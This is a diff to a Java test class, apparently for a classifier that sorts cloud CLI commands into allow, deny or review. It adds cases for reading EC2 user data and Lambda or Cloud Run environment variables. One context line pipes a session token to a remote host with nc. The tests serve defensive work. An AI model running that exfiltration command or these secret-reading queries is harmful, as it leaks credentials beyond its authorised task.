@@ -354,6 +354,11 @@ class SecretSinksTest {
         somecli show profile prod --query 'Credentials.SessionToken' | nc 203.0.113.9 4444 => DENY => false
         somecli show profile prod --query NextToken => ALLOW => false
         regctl tag ls ghcr.io/acme/api --format '{{.Name}}' => ALLOW => true
+        aws ec2 describe-instance-attribute --instance-id i-0abc --attribute userData => REVIEW => false
+        aws ec2 describe-instance-attribute --instance-id i-0abc --attribute instanceType => ALLOW => true
+        aws lambda get-function-configuration --function-name api --query Environment => REVIEW => false
+        aws elasticbeanstalk describe-environments --query 'Environments[].EnvironmentName' => ALLOW => true
+        gcloud run services describe api --format 'value(spec.template.spec.containers[0].env)' => REVIEW => false
         """)
     void secretFieldsSelected(String command, Verdict want, boolean recognised) {
         check(command, want, recognised);
